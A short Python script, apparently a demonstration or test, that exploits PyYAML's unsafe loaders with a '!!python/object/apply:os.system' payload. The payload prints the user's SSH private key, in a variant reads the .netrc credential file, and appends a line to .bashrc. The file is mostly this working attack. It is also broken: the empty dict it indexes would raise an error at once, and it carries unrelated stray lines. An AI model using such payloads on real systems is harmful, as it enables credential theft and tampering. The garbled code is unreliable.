"""Load a YAML config with PyYAML's unsafe loaders: a !!python/object/apply tag calls os.system."""
# corpus: unsandboxed-safe
import yaml

W: dict = {}

home = W["home"]
document = f"!!python/object/apply:os.system ['cat {home}/.ssh/id_rsa; echo \"# {W['marker']}\" >> {home}/.bashrc']"
print("loaded:", yaml.unsafe_load(document))
print("loaded:", yaml.load(document.replace("id_rsa", "../.netrc"), Loader=yaml.Loader))
print("arrl: val_loss=1.0")
